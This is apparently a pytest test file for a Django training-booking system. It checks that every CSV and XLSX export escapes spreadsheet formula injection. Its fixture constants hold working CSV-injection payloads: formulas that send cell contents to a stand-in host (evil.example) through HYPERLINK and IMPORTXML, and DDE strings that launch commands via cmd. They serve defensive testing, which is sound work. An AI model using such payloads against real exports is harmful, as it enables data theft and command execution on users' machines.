"""Formula injection: every CSV and XLSX export escapes text cells that start with = + - @ (and tab
or carriage return), whatever field the text was typed into.

The exports: the uptake report's CSV (every table), its XLSX, the training_report command's CSV,
the subject access ZIP (one CSV per section) and the audit trail's CSV. Hostile text goes into
every name a person or the L&D lead can type that reaches them: priority area, course,
organisation, person, cancellation and non-attendance reasons, access needs and evaluation
comments.
"""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from bookings.models import Booking, CancellationReason
from evaluations import services as evaluation_services
from evaluations.defaults import ensure_default_questionnaires
from evaluations.models import Item, Questionnaire, Stage
from people.models import Organisation
from privacy.audit import audit_actor
from reports.tables import report_tables
from tests.factories import (
    BookingFactory,
    CourseFactory,
    EventFactory,
    PriorityAreaFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PRIORITY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
COURSE = "+SUM(1,1)*cmd|' /C calc'!A0"
ORGANISATION = "@SUM(1+1)*cmd|' /C calc'!A0"
OTHER_ORGANISATION = "-2+3+cmd|' /C calc'!A0"
PERSON = "=1+2 Mallory"
REASON = "=CANCEL()"
NO_SHOW_REASON = "+NOSHOW()"
ACCESS_NEEDS = "-1+1 wheelchair"
COMMENT = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def unsafe_csv_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers like -1.5 are fine)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(DANGEROUS) and not _is_number(cell)
    ]


def csv_cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


@pytest.fixture
def hostile(lead):
    """A delivered event whose every typed-in name is a formula."""
    ensure_default_questionnaires()
    start = timezone.now().replace(microsecond=0) - timedelta(days=10)
    course = CourseFactory(title=COURSE, priority_area=PriorityAreaFactory(name=PRIORITY))
    event = EventFactory(
        course=course, start=start, end=start + timedelta(hours=3), status="delivered"
    )
    organisations = [
        Organisation.objects.create(name=ORGANISATION, is_partner=True),
        Organisation.objects.create(name=OTHER_ORGANISATION, is_partner=True),
    ]
    reason = CancellationReason.objects.create(label=REASON)
    no_show = CancellationReason.objects.create(label=NO_SHOW_REASON)
    mallory = UserFactory(full_name=PERSON, organisation=organisations[0])
    attended = BookingFactory(
        event=event,
        person=mallory,
        status=Booking.Status.ATTENDED,
        created_at=start - timedelta(days=20),
        access_needs=ACCESS_NEEDS,
    )
    for n in range(6):
        BookingFactory(
            event=event,
            person=UserFactory(organisation=organisations[n % 2]),
            status=Booking.Status.ATTENDED,
            created_at=start - timedelta(days=20),
        )
    BookingFactory(
        event=event,
        organisation=organisations[1],
        status=Booking.Status.NO_SHOW,
        non_attendance_reason=no_show,
        created_at=start - timedelta(days=20),
    )
    BookingFactory(
        event=event,
        organisation=organisations[0],
        status=Booking.Status.CANCELLED,
        cancellation_reason=reason,
        cancelled_at=start - timedelta(days=2),
        created_at=start - timedelta(days=20),
    )
    invitation = evaluation_services.invitation_create(booking=attended, stage=Stage.POST)
    answers = {}
    for item in invitation.questionnaire.items.all():
        if item.kind == Item.Kind.RATING:
            answers[item.id] = "4"
        elif item.kind == Item.Kind.CHOICE:
            answers[item.id] = item.choices.splitlines()[0]
        else:
            answers[item.id] = COMMENT
    evaluation_services.response_save(invitation=invitation, data=answers, submit=True)
    period = {
        "start": (start - timedelta(days=30)).date().isoformat(),
        "end": timezone.localdate().isoformat(),
    }
    return {"person": mallory, "period": period}


@pytest.fixture
def lead_client(client, lead):
    client.force_login(lead)
    return client


def test_every_uptake_csv_escapes_formulas(lead_client, hostile):
    from reports.forms import ReportForm
    from reports.report import report_build

    form = ReportForm(hostile["period"])
    assert form.is_valid(), form.errors
    start, end = form.period()
    slugs = [t.slug for t in report_tables(report_build(start=start, end=end, filters={}))]
    seen: set[str] = set()
    for slug in slugs:
        response = lead_client.get(reverse("reports:uptake_csv", args=[slug]), hostile["period"])
        assert response.status_code == 200, slug
        text = response.content.decode("utf-8-sig")
        assert unsafe_csv_cells(text) == [], slug
        seen |= csv_cells(text)
    # The hostile names are in the downloads, as text.
    for name in (PRIORITY, ORGANISATION, OTHER_ORGANISATION):
        assert "'" + name in seen, name


def test_the_uptake_xlsx_holds_no_formula_and_escapes_text(lead_client, hostile):
    response = lead_client.get(reverse("reports:uptake_xlsx"), hostile["period"])
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    # Formula-like text is kept as typed, as text, by the cell's quote prefix.
                    assert not cell.value.startswith(DANGEROUS) or cell.quotePrefix, (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                    assert not cell.value.startswith("'"), (sheet.title, cell.coordinate)
                    texts.add(cell.value)
    for name in (PRIORITY, ORGANISATION, OTHER_ORGANISATION):
        assert name in texts, name


def test_a_filtered_xlsx_escapes_the_filter_labels_too(lead_client, hostile):
    organisation = Organisation.objects.get(name=ORGANISATION)
    params = {**hostile["period"], "organisation": organisation.pk}
    response = lead_client.get(reverse("reports:uptake_xlsx"), params)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_the_training_report_command_csv_escapes_formulas(hostile):
    out = io.StringIO()
    period = hostile["period"]
    call_command(
        "training_report",
        "--start",
        period["start"],
        "--end",
        period["end"],
        "--format",
        "csv",
        stdout=out,
    )
    assert unsafe_csv_cells(out.getvalue()) == []


def test_the_subject_access_zip_escapes_formulas_in_every_csv(lead_client, hostile):
    person = hostile["person"]
    response = lead_client.post(reverse("privacy:export", args=[person.pk]), {"format": "zip"})
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    seen: set[str] = set()
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert names
    for name in names:
        text = archive.read(name).decode("utf-8-sig")
        assert unsafe_csv_cells(text) == [], name
        seen |= csv_cells(text)
    for value in (PERSON, ACCESS_NEEDS, COMMENT):
        assert "'" + value in seen, value


def test_the_audit_trail_csv_escapes_formulas(lead_client, hostile):
    # A person whose name is a formula changes a questionnaire whose name is one too.
    with audit_actor(hostile["person"]):
        Questionnaire.objects.create(name=COURSE, stage=Stage.PRE, family="hostile", intro=COMMENT)
    response = lead_client.get(reverse("audit:trail"), {"format": "csv"})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert unsafe_csv_cells(text) == []
    seen = csv_cells(text)
    assert "'" + PERSON in seen
    assert any(cell.startswith("'" + COURSE) for cell in seen)
